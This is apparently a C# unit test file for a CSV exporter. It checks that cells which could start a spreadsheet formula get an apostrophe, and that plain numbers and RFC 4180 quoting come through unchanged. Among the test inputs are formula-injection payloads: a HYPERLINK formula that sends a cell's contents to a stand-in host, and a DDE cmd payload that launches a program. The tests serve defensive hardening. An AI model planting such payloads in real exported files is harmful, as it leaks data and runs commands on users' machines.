using EvidencePipe.Export;

namespace EvidencePipe.Core.Tests.Export;

public sealed class SpreadsheetFormulaTests
{
    // Expected cells written by hand from the OWASP rule: one apostrophe before a cell that starts with = + - @ TAB or CR.
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(1,2)", "'@SUM(1,2)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("-", "'-")]
    [InlineData("+44", "+44")]
    [InlineData("-0.1278", "-0.1278")]
    [InlineData("-05:00", "-05:00")]
    [InlineData("+01:00", "+01:00")]
    [InlineData("-1.", "'-1.")]
    [InlineData("-05:00x", "'-05:00x")]
    [InlineData("hello =1", "hello =1")]
    [InlineData(" =1", " =1")]
    [InlineData("", "")]
    public void A_cell_that_could_start_a_formula_gets_an_apostrophe_and_numbers_stay_as_they_are(string cell, string expected) =>
        Assert.Equal(expected, SpreadsheetFormula.Neutralise(cell));

    [Fact]
    public void A_missing_cell_stays_missing() => Assert.Null(SpreadsheetFormula.Neutralise(null));

    [Fact]
    public void A_safe_row_neutralises_each_cell_before_quoting_and_a_raw_row_keeps_the_text()
    {
        var safe = new StringWriter();
        var raw = new StringWriter();

        Rfc4180.WriteRow(safe, CsvText.SpreadsheetSafe, "=A1,B1", "ok", "\r\nx");
        Rfc4180.WriteRow(raw, CsvText.Raw, "=A1,B1", "ok", "\r\nx");

        // By hand: the apostrophe goes inside the quotes RFC 4180 §2 puts around a cell with a comma or line break.
        Assert.Equal("\"'=A1,B1\",ok,\"'\r\nx\"\r\n", safe.ToString());
        Assert.Equal("\"=A1,B1\",ok,\"\r\nx\"\r\n", raw.ToString());
    }
}
